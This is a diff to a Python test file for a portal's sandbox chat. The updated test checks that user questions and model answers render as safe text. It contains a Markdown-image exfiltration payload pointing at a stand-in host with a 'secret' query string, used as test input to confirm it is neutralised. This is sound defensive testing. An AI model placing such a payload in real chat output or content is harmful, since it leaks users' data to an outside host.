@@ -11,6 +11,7 @@ from catalog.models import CatalogModel, DataClassification, ModelStatus
 from portal.core.auth import Role
 from metering.models import UsageEvent
 from sandbox.models import ChatMessage, Conversation
+from portal.core.safe_markdown import WORD_JOINER
 from tests.views.support import DRAFT, chat, chat_requests, errors, rows, send, shown, unescaped
 
 CARD = "views/model_card.py"
@@ -111,7 +112,11 @@ def test_user_text_and_answers_are_shown_as_plain_text(open_sandbox) -> None:
     question, answer = (m.markdown[0].value for m in at.chat_message)
     for markdown in (question, answer):
         assert "![x](" not in markdown and "<b>" not in markdown  # no image to load, no HTML
-    assert unescaped(answer) == "Echo: ![x](https://evil.example/?q=secret) <b>bold</b>"
+    # The question is shown as typed; the answer as safe Markdown (portal.ui.untrusted_markdown): the image as its
+    # alt text and URL in plain text, the HTML as text. Word joiners keep the URL from becoming a link.
+    assert unescaped(question).replace(WORD_JOINER, "") == "![x](https://evil.example/?q=secret) <b>bold</b>"
+    assert unescaped(answer).replace(WORD_JOINER, "") == "Echo: x (image: https://evil.example/?q=secret) <b>bold</b>"
+    assert "](" not in answer
 
 
 # --- guardrails -----------------------------------------------------------------------------------------------
